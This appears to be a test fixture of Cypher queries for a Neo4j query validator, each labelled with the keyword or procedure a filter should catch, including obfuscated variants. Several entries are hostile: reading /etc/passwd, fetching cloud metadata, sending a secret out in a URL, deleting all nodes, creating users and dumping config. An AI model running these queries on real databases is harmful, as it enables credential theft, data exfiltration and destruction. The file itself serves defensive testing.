// word: LOAD
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
// ---
// word: LOAD
LOAD CSV WITH HEADERS FROM 'http://169.254.169.254/latest/meta-data/' AS row RETURN row
// ---
// word: load
load/**/csv from $url as x return x
// ---
// word: LOAD
MATCH (n) LOAD CSV FROM n.url AS line RETURN line
// ---
// word: LOAD
WITH 'http://x/' + $secret AS url LOAD CSV FROM url AS l RETURN l
// ---
// word: LOAD
EXPLAIN LOAD CSV FROM 'http://x/' AS l RETURN l
// ---
// word: file
RETURN file()
// ---
// word: linenumber
RETURN linenumber()
// ---
// word: LineNumber
RETURN LineNumber ( )
// ---
// word: `file`
RETURN `file`()
// ---
// word: apoc.load.json
CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value
// ---
// word: `apoc`.`load`.`json`
CALL `apoc`.`load`.`json`('http://x') YIELD value RETURN value
// ---
// word: apoc . /* x */ load . json
CALL apoc . /* x */ load . json ('http://x')
// ---
CALL apoc.
load//
.csv('x')
// ---
// word: `apoc.load.json`
CALL `apoc.load.json`('http://x')
// ---
// word: apoc.cypher.doIt
CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value
// ---
// word: apoc.cypher.run
CALL apoc.cypher.run('MATCH (n) DETACH DELETE n', {}) YIELD value RETURN value
// ---
// word: apoc.periodic.iterate
CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})
// ---
// word: apoc.export.csv.all
CALL apoc.export.csv.all('/var/x.csv', {})
// ---
// word: apoc.cypher.runFirstColumnSingle
RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN n', {})
// ---
// word: apoc.util.sleep
CALL apoc.util.sleep(100000)
// ---
// word: apoc.text.join
RETURN apoc.text.join(['a'], ',')
// ---
// word: `apoc`.text.`join`
RETURN `apoc`.text.`join`(['a'], ',')
// ---
// word: gds.graph.drop
CALL gds.graph.drop('g')
// ---
// word: gds.util.NaN
RETURN gds.util.NaN()
// ---
// word: my.own.function
RETURN my.own.function(1)
// ---
// word: com.evil.run
CALL com.evil.run()
// ---
// word: dbms.security.createUser
CALL dbms.security.createUser('x', 'y', false)
// ---
// word: dbms.listConfig
CALL dbms.listConfig()
// ---
// word: dbms.listConfig
CALL dbms.listConfig('password') YIELD value RETURN value
// ---
// word: dbms.listConnections
CALL dbms.listConnections()
// ---
// word: dbms.killConnection
CALL dbms.killConnection('bolt-1')
// ---
// word: dbms.killConnections
CALL dbms.killConnections(['bolt-1'])
// ---
// word: dbms.queryJmx
CALL dbms.queryJmx('*:*')
// ---
// word: dbms.upgrade
CALL dbms.upgrade()
// ---
// word: dbms.setConfigValue
CALL dbms.setConfigValue('a', 'b')
// ---
// word: dbms.info
CALL dbms.info()
// ---
// word: tx.setMetaData
CALL tx.setMetaData({user: 'someone else'})
// ---
// word: tx.getMetaData
CALL tx.getMetaData()
// ---
// word: db.createLabel
CALL db.createLabel('Evil')
// ---
// word: db.createProperty
CALL db.createProperty('evil')
// ---
// word: db.createRelationshipType
CALL db.createRelationshipType('EVIL')
// ---
// word: db.create.setNodeVectorProperty
MATCH (n) CALL db.create.setNodeVectorProperty(n, 'v', [1.0]) RETURN n
// ---
// word: db.create.setRelationshipVectorProperty
MATCH ()-[r]->() CALL db.create.setRelationshipVectorProperty(r, 'v', [1.0])
// ---
// word: db.index.vector.createNodeIndex
CALL db.index.vector.createNodeIndex('v', 'A', 'e', 3, 'cosine')
// ---
// word: db.index.fulltext.awaitEventuallyConsistentIndexRefresh
CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()
// ---
// word: db.clearQueryCaches
CALL db.clearQueryCaches()
// ---
// word: db.prepareForReplanning
CALL db.prepareForReplanning()
// ---
// word: db.resampleIndex
CALL db.resampleIndex('x')
// ---
// word: db.resampleOutdatedIndexes
CALL db.resampleOutdatedIndexes()
// ---
// word: db.awaitIndexes
CALL db.awaitIndexes(100000)
// ---
// word: db.stats.collect
CALL db.stats.collect('QUERIES')
// ---
// word: db.stats.retrieve
CALL db.stats.retrieve('QUERIES')
// ---
// word: db.stats.clear
CALL db.stats.clear('QUERIES')
// ---
// word: DB.LABELS
CALL DB.LABELS()
// ---
// word: db.labels.evil
CALL db.labels.evil()
// ---
// word: dbXlabels
CALL dbXlabels()
// ---
// word: `db.labels``x`
CALL `db.labels``x`()
// ---
CALL $procedure()
// ---
CALL 'db.labels'()
// ---
// name: a procedure called as a function
// word: db.labels
RETURN db.labels()
// ---
// name: a function in an argument
// word: apoc.util.md5
CALL db.index.fulltext.queryNodes('x', apoc.util.md5(['x'])) YIELD node RETURN node
// ---
// word: apoc.create.uuid
MATCH (n {id: apoc.create.uuid()}) RETURN n
// ---
// word: apoc.convert.toJson
MATCH (n) RETURN n {.*, j: apoc.convert.toJson(n)}
// ---
// word: evil
MATCH (a)-[r {x: evil(1)}]->() RETURN r
// ---
// word: evil
RETURN [x IN [1] | evil(x)]
// ---
// word: evil
RETURN [(a)-->(b) | evil(a)]
// ---
// word: evil
RETURN CASE evil(1) WHEN 1 THEN 1 END
// ---
// word: evil
RETURN 1 ORDER BY evil(1)
// ---
// word: evil
RETURN [1, 2][evil(1)..2]
// ---
// word: evil
MATCH (n:$(evil(1))) RETURN n
// ---
// word: evil
RETURN trim(BOTH evil(1) FROM 'x')
// ---
// word: evil
RETURN reduce(a = evil(1), x IN [1] | a)
// ---
// word: evil
MATCH ((a)-->(b) WHERE evil(a)){1,2} RETURN a
// ---
// word: evil
RETURN count(DISTINCT evil(1))
